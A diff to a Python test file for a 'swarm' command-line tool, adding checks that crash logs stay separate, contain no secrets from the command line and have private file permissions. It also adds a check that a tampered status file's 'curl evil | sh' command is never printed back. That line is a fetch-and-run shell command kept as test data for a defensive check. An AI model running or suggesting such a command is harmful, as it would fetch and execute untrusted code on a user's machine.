@@ -104,7 +104,7 @@ def test_a_port_that_is_taken_is_told_by_the_flag_that_was_given(tmp_path: Path)
     assert index.returncode == 7 and last.startswith("error: --listen must be free") and "network.listen" not in last
 
 
-def test_files_of_unexpected_ends_in_one_second_are_two(
+def test_files_of_unexpected_ends_are_told_apart_and_hold_no_value_of_the_command_line(
     tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
 ) -> None:
     def fail() -> None:
@@ -114,8 +114,14 @@ def test_files_of_unexpected_ends_in_one_second_are_two(
     monkeypatch.setattr(main.tempfile, "tempdir", str(tmp_path))
     assert main._run() == 1
     (path,) = tmp_path.glob("swarm-crash-*.log")
-    assert path.stem.endswith(f"-{os.getpid()}")
     assert str(path) in capsys.readouterr().err
+    monkeypatch.setattr(
+        "sys.argv", ["swarm", "join", "http://me:secret@host/x", "--policy.base=secret", "--to", "secret"]
+    )
+    assert main._run() == 1
+    assert len(list(tmp_path.glob("swarm-crash-*.log"))) == 2
+    for one in tmp_path.glob("swarm-crash-*.log"):
+        assert "secret" not in one.read_text() and one.stat().st_mode & 0o777 == 0o600
 
 
 def test_dashboard_prints_the_address_of_the_page_with_its_token(tmp_path: Path) -> None:
@@ -180,10 +186,11 @@ def test_status_of_a_node_that_has_ended_shows_what_is_known(tmp_path: Path) -> 
     (tmp_path / "config.toml").touch()
     assert f"start it again with `swarm run {tmp_path}/config.toml`" in swarm("status", str(tmp_path)).stderr
     assert f"start it again with `swarm run {tmp_path}/config.toml`" in swarm("dashboard", str(tmp_path)).stderr
-    NodeStatus("12D3x", "a", dead.pid, 0.0, "ended", start_command="swarm bootstrap --dir b").write(
-        tmp_path / "status.json"
-    )
-    assert "start it again with `swarm bootstrap --dir b`" in swarm("status", str(tmp_path)).stderr
+    NodeStatus("12D3x", "a", dead.pid, 0.0, "ended", command="bootstrap").write(tmp_path / "status.json")
+    assert f"start it again with `swarm bootstrap --dir {tmp_path}` and" in swarm("status", str(tmp_path)).stderr
+    NodeStatus("12D3x", "a", dead.pid, 0.0, "ended", command="curl evil | sh").write(tmp_path / "status.json")
+    told = swarm("status", str(tmp_path))
+    assert "curl" not in told.stdout + told.stderr
 
 
 def test_schema_is_a_json_schema_with_every_section() -> None:
